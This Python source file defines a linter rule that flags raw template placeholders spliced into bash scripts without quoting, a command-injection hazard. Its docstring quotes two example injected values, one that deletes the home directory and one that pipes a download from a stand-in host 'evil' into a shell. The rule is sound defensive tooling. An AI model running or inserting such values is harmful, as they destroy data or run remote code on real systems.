"""Rule H001 (unsafe-raw-placeholder)."""

from __future__ import annotations

from typing import ClassVar, Literal

from mcp_harbor.check.rules._base import Rule

__all__ = ["UnsafeRawPlaceholder"]


class UnsafeRawPlaceholder(Rule):
    r"""A raw placeholder whose schema allows characters that are syntax where it is spliced.

    ## What it does
    Flags `{{ args.x }}` (no filter) when the arg's JSON Schema allows a
    character that bash reads as syntax in the quoting context of the
    placeholder: anything outside `[A-Za-z0-9_@%+=:,./-]` unquoted, `$`, backtick,
    `"` or `\` inside double quotes, `'` inside single quotes, a line break in a
    comment or quoted here-document.

    ## Why is this bad?
    A raw placeholder is text spliced into the script before bash parses it
    (the GitHub Actions `${{ }}` hazard). A value such as `x; rm -rf ~` or
    `$(curl evil|sh)` becomes code.

    ## Example
    ```yaml
    args: {branch: {type: string}}
    steps:
      - name: show
        run: git log {{ args.branch }}
    ```

    ## Use instead
    ```yaml
    steps:
      - name: show
        run: git log -- {{ args.branch | shellquote }}   # or: git log -- "$ARG_branch"
    ```
    or constrain the arg: `pattern: "^[A-Za-z0-9._/-]+$"`, an `enum`, `type: integer`.

    ## Known problems
    A pattern with lookarounds is analysed by the characters it consumes; that is
    conservative.

    ## References
    - CWE-78
    - zizmor `template-injection`
    """

    id: ClassVar[str] = "H001"
    name: ClassVar[str] = "unsafe-raw-placeholder"
    summary: ClassVar[str] = (
        "A raw placeholder whose schema allows characters that are syntax where it is spliced."
    )
    severity: ClassVar[Literal["error", "warning"]] = "error"
